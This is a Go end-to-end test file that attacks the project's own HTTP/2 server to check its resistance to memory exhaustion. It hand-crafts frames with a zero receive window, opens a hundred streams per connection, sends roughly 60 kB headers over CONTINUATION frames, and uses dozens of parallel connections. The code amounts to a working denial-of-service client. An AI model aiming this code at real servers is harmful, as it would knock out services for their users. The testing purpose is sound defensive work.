package e2e

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestAttackOfAnswersThatNobodyTakes: a stranger opens as many requests on each connection
// of HTTP/2 as it may, each with a long header, and takes none of the answers.
func TestAttackOfAnswersThatNobodyTakes(t *testing.T) {
	t.Parallel()
	v := startAttacked(t, setup{})
	v.under(func() {
		var work sync.WaitGroup
		until := time.Now().Add(attackTime())
		for range sized(40, 60) {
			work.Go(func() {
				if err := takeNothing(v.addresses.HTTPS, until); err != nil {
					t.Log(err) // a connection that is refused takes no memory
				}
			})
		}
		work.Wait()
	})
}

// Types and flags of HTTP/2's frames (RFC 9113 §6).
const (
	headersFrame, settingsFrame, continuationFrame = 1, 4, 9
	endStream, endHeaders                          = 1, 4
	initialWindowSize                              = 4
	largestFrame                                   = 16 << 10
)

// takeNothing asks a hundred times on one connection, and gives no room for the answers
// (RFC 9113 §6.9.2).
func takeNothing(server string, until time.Time) error {
	conn, err := tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", server, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return err
	}
	defer conn.Close()
	if err := conn.SetDeadline(until.Add(10 * time.Second)); err != nil {
		return err
	}
	begin := frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settingsFrame, 0, 0, []byte{0, initialWindowSize, 0, 0, 0, 0})
	if _, err := conn.Write(begin); err != nil {
		return err
	}
	go io.Copy(io.Discard, conn)
	for n := range 100 {
		if _, err := conn.Write(longRequest(2*n + 1)); err != nil {
			return err
		}
	}
	time.Sleep(time.Until(until))
	return nil
}

// longRequest is a request whose header has some 60 kB, which no table has (RFC 7541).
func longRequest(stream int) (frames []byte) {
	block := []byte{0x82, 0x87, 0x01} // GET, https, and the name of the authority
	block = hpackText(block, "localhost")
	block = hpackText(append(block, 0x04), "/calling/recordings/x?api-version=2024-04-15")
	filler := strings.Repeat("x", 6000)
	for n := range 10 {
		block = hpackText(append(block, 0x00), fmt.Sprint("x-filler-", n))
		block = hpackText(block, fmt.Sprint(stream, n, filler))
	}
	kind, flags := headersFrame, endStream
	for rest := bytes.NewBuffer(block); rest.Len() > 0; kind, flags = continuationFrame, 0 {
		part := rest.Next(largestFrame)
		if rest.Len() == 0 {
			flags |= endHeaders
		}
		frames = frame(frames, kind, flags, stream, part)
	}
	return frames
}

// frame appends a frame.
func frame(b []byte, kind, flags, stream int, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), byte(kind), byte(flags))
	return append(append(b, byte(stream>>24), byte(stream>>16), byte(stream>>8), byte(stream)), payload...)
}

// hpackText appends a text with its length, as it is (RFC 7541 §5).
func hpackText(b []byte, text string) []byte {
	length := len(text)
	if length < 127 {
		return append(append(b, byte(length)), text...)
	}
	b = append(b, 127)
	for length -= 127; length >= 128; length >>= 7 {
		b = append(b, byte(length)|0x80)
	}
	return append(append(b, byte(length)), text...)
}
